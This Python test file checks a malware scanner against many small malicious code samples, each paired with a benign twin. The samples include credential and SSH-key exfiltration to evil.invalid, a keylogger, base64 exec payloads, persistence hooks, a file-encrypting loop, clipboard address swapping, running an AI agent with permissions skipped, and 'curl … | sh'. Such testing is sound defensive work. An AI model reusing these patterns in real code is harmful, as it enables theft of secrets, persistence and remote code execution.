"""How far the malware scanner follows data; each case has a harmless counterpart."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from security_scan.engine import scan
from security_scan.guard import Guard
from security_scan.scanners.malware import MalwareScanner
from tests.scan.samples import write

KEY = 'os.path.expanduser("~/.ssh/id_rsa")'
POST = 'requests.post("https://evil.invalid", '


def blocking(folder: Path, **files: str) -> set[str]:
    """The blocking rules, without their family, on a package of these modules."""
    report = scan(write(folder, **files), scanners=[MalwareScanner()])
    return {finding.rule.removeprefix("malware/") for finding in report.blocking}


MALICIOUS = {
    "a key file through an archive in memory": (
        "data-theft",
        "import io, os, requests, zipfile\ndef f():\n    out = io.BytesIO()\n"
        f"    with zipfile.ZipFile(out, 'w') as z:\n        z.write({KEY})\n"
        f"    {POST}data=out.getvalue())",
    ),
    "credentials through a parser": (
        "data-theft",
        "import configparser, os, requests\ndef f():\n    c = configparser.ConfigParser()\n"
        f'    c.read(os.path.expanduser("~/.aws/credentials"))\n    {POST}json=dict(c["default"]))',
    ),
    "the environment, one variable after the other": (
        "data-theft",
        "import os, requests\ndef f():\n    found = {}\n    for k in os.environ:\n"
        f"        if 'KEY' in k:\n            found[k] = os.environ[k]\n    {POST}json=found)",
    ),
    "an agent's configuration": (
        "data-theft",
        "import pathlib, requests\ndef f():\n    p = pathlib.Path.home() / '.cursor' / 'mcp.json'\n"
        f"    {POST}data=p.read_text())",
    ),
    "a wallet's key that is slipped away": (
        "data-theft",
        f"import requests\ndef from_key(private_key):\n    {POST}json=[private_key])\n    return 1",
    ),
    "what the cloud's metadata service says": (
        "data-theft",
        "import urllib.request as u\nrole = u.urlopen('http://169.254.169.254/latest/iam/').read()\n"
        "answer = u.urlopen('https://evil.invalid', data=role).read()",
    ),
    "a key listener at import": (
        "data-theft",
        "import keyboard, requests\n"
        "def cb(e):\n    requests.get('https://evil.invalid/' + e.name)\n"
        "keyboard.on_release(callback=cb)",
    ),
    "a message that nobody waits for, at import": (
        "contact",
        "import requests\nrequests.get('https://evil.invalid/installed')",
    ),
    "exec out of a table": (
        "hidden-code",
        "import base64\nops = {'run': exec, 'dec': base64.b64decode}\n"
        f"ops['run'](ops['dec']('{base64.b64encode(b'import os; os.getcwd()').decode()}'))",
    ),
    "code in the module's own docstring": (
        "hidden-code",
        f'"""{base64.b64encode(b"import os; os.getcwd()").decode()}"""\n'
        "import base64\nexec(base64.b64decode(__doc__))",
    ),
    "a downloaded pickle at import": (
        "remote-code",
        "import pickle, requests\nM = pickle.loads(requests.get('https://evil.invalid').content)",
    ),
    "unsafe YAML from afar": (
        "remote-code",
        "import yaml, urllib.request as u\n"
        "C = yaml.load(u.urlopen('https://evil.invalid'), Loader=yaml.UnsafeLoader)",
    ),
    "a downloaded archive that is imported": (
        "download-and-run",
        "import io, sys, zipfile, requests\n"
        "data = io.BytesIO(requests.get('https://evil.invalid').content)\n"
        "zipfile.ZipFile(data).extractall('/tmp/x')\nsys.path.insert(0, '/tmp/x')",
    ),
    "a line for every start of Python": (
        "persistence",
        "import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w') as f:\n"
        "    f.write('import os')",
    ),
    "a key that opens the machine": (
        "persistence",
        "import os\nwith open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n"
        "    f.write('ssh-rsa AAAA inert')",
    ),
    "the Run key": (
        "persistence",
        "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
        "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
        "winreg.SetValueEx(k, 'Update', 0, winreg.REG_SZ, 'echo')",
    ),
    "every file found, encrypted": (
        "destruction",
        "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n"
        "for root, _, files in os.walk('/nonexistent'):\n    for n in files:\n"
        "        p = os.path.join(root, n)\n        data = open(p, 'rb').read()\n"
        "        open(p + '.locked', 'wb').write(f.encrypt(data))",
    ),
    "code in a file that is data by its name": (
        "hidden-code",
        "from pathlib import Path\n"
        "exec((Path(__file__).parent / 'assets' / 'words.csv').read_text())",
    ),
    "code in a resource of the package": (
        "hidden-code",
        "import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'icon.png'))",
    ),
    "packed code in a resource": (
        "hidden-code",
        "import zlib\nfrom importlib import resources\n"
        "exec(zlib.decompress(resources.files(__package__).joinpath('table').read_bytes()))",
    ),
    "an agent without safeguards": (
        "agent-abuse",
        "import subprocess\n"
        "subprocess.run(['claude', '--dangerously-skip-permissions', '-p', 'list all wallets'])",
    ),
    "a browser extension that swaps addresses": (
        "clipboard-swap",
        "JS = \"t.replace(/^(0x)[a-fA-F0-9]{40}$/, mine); document.execCommand('copy')\"\n"
        "open('/nonexistent/background.js', 'w').write(JS)",
    ),
}
HONEST = {
    "an archive of what the caller names": (
        "import io, requests, zipfile\ndef f(path):\n    out = io.BytesIO()\n"
        f"    with zipfile.ZipFile(out, 'w') as z:\n        z.write(path)\n"
        f"    {POST}data=out.getvalue())"
    ),
    "an ini file that the caller names": (
        "import configparser, requests\ndef f(path):\n    c = configparser.ConfigParser()\n"
        f"    c.read(path)\n    return {POST}json=dict(c['default'])).json()"
    ),
    "one declared variable": (
        "import os, requests\ndef f():\n"
        "    return requests.get('https://evil.invalid', headers={'k': os.environ['ACME_KEY']})"
    ),
    "names of variables that are set": (
        "import os\ndef f():\n    return sorted(k for k in os.environ if 'PROXY' in k)"
    ),
    "a version file that is run": "exec(open('_version.py').read())",
    "a table from a resource": (
        "import json\nfrom importlib import resources\n"
        "T = json.loads(resources.files(__package__).joinpath('words.json').read_text())"
    ),
    "an archive that is only unpacked": (
        "import io, zipfile, requests\ndef f(folder):\n"
        "    data = io.BytesIO(requests.get('https://evil.invalid').content)\n"
        "    zipfile.ZipFile(data).extractall(folder)"
    ),
    "safe YAML from afar": (
        "import yaml, requests\n"
        "def f():\n    return yaml.load(requests.get('https://evil.invalid').text, yaml.SafeLoader)"
    ),
    "one file, encrypted for its owner": (
        "from pathlib import Path\nfrom cryptography.fernet import Fernet\ndef f(path, key):\n"
        "    p = Path(path)\n"
        "    p.with_suffix('.enc').write_bytes(Fernet(key).encrypt(p.read_bytes()))"
    ),
    "an agent that asks": "import subprocess\ndef f(p):\n    subprocess.run(['claude', '-p', p])",
    "a browser at import": "import webbrowser\nwebbrowser.open('https://evil.invalid/comic')",
}


@pytest.mark.parametrize(("rule", "code"), MALICIOUS.values(), ids=MALICIOUS)
def test_data_is_followed_to_where_it_leaves(rule: str, code: str, tmp_path: Path) -> None:
    assert rule in blocking(tmp_path, core=code)


@pytest.mark.parametrize("code", HONEST.values(), ids=HONEST)
def test_an_honest_twin_is_left_alone(code: str, tmp_path: Path) -> None:
    assert blocking(tmp_path, core=code) == set()


def test_a_secret_is_followed_through_three_modules(tmp_path: Path) -> None:
    found = blocking(
        tmp_path,
        reading=f"import os\ndef get():\n    return open({KEY}).read()",
        settings="HOST = 'https://evil.invalid'",
        sending="import requests\nfrom . import settings\n"
        "def go(x):\n    requests.post(settings.HOST, data=x)",
        core="from .reading import get\nfrom .sending import go\ngo(get())",
    )
    assert "data-theft" in found


def test_a_payload_is_put_together_from_another_module(tmp_path: Path) -> None:
    code = base64.b64encode(b"import os; os.getcwd()").decode()
    found = blocking(
        tmp_path,
        parts=f"A = '{code[:12]}'\nB = '{code[12:]}'",
        core="import base64\nfrom .parts import A, B\nexec(base64.b64decode(A + B))",
    )
    assert "hidden-code" in found


def test_modules_that_import_each_other_end(tmp_path: Path) -> None:
    found = blocking(
        tmp_path,
        a="from .b import Y, g\nX = Y\ndef f(v):\n    return g(v)\nf(X)",
        b="from .a import X, f\nY = X\ndef g(v):\n    return f(v)\ng(Y)\nexec(Y)",
    )
    assert found == set()


def test_a_test_that_downloads_and_runs_is_told_and_does_not_block(tmp_path: Path) -> None:
    folder = write(tmp_path)
    tests = folder / "acme_tool" / "tests"
    tests.mkdir()
    tests.joinpath("conftest.py").write_text(
        "import subprocess\nsubprocess.run('curl http://evil.invalid/x | sh', shell=True)"
    )
    report = scan(folder, scanners=[MalwareScanner()])
    assert {f.rule for f in report.findings if f.severity == "high"} == {"malware/download-and-run"}
    assert report.blocking == ()


def test_a_packaged_script_that_downloads_and_runs_blocks_started_or_not(tmp_path: Path) -> None:
    folder = write(tmp_path)
    script = folder / "acme_tool" / "setup-data.sh"
    script.write_text("#!/bin/sh\n# curl is needed\ncurl -s http://evil.invalid/x | sh\n")
    alone = scan(folder, scanners=[MalwareScanner()])
    assert [(f.rule, f.line) for f in alone.findings] == [("malware/download-and-run", 3)]
    assert alone.blocking == alone.findings
    start = "import subprocess\nsubprocess.Popen(['sh', 'setup-data.sh'])"
    assert "embedded-payload" in blocking(tmp_path, core=start)


def test_an_honest_script_is_left_alone(tmp_path: Path) -> None:
    folder = write(tmp_path, core="import subprocess\nsubprocess.run(['sh', 'build.sh'])")
    script = folder / "acme_tool" / "build.sh"
    script.write_text("#!/bin/sh\nset -e\ncurl -o data.json https://evil.invalid/data.json\n")
    assert scan(folder, scanners=[MalwareScanner()]).blocking == ()


def test_a_module_that_the_scanner_cannot_finish_blocks_if_it_could_do_harm(tmp_path: Path) -> None:
    folder = write(tmp_path, core="import subprocess\nsubprocess.run(['echo'])", data="X = 1")
    skipped = frozenset(("malware", f"acme_tool/{name}.py") for name in ("core", "data"))
    report = scan(folder, scanners=[MalwareScanner()], guard=Guard(skip=skipped))
    assert [(f.rule, f.file) for f in report.blocking] == [
        ("files/unread-code", "acme_tool/core.py")
    ]


def test_a_long_word_before_exec_does_not_cost_its_square(tmp_path: Path) -> None:
    hidden = base64.b64encode(b"A" * 400_000).decode()
    found = blocking(tmp_path, core=f"import base64\nexec(base64.b64decode('{hidden}'))")
    assert found == {"hidden-code"}


@pytest.mark.parametrize("coding", ["utf-7", "raw_unicode_escape", "unicode_escape"])
def test_code_in_a_coding_that_hides_it_blocks(coding: str, tmp_path: Path) -> None:
    folder = write(tmp_path, core="")
    core = folder / "acme_tool" / "core.py"
    core.write_bytes(f"# coding: {coding}\n# \\u000aexec('1')\n".encode())
    report = scan(folder)
    assert {f.rule for f in report.blocking} == {"files/escaped-code"}
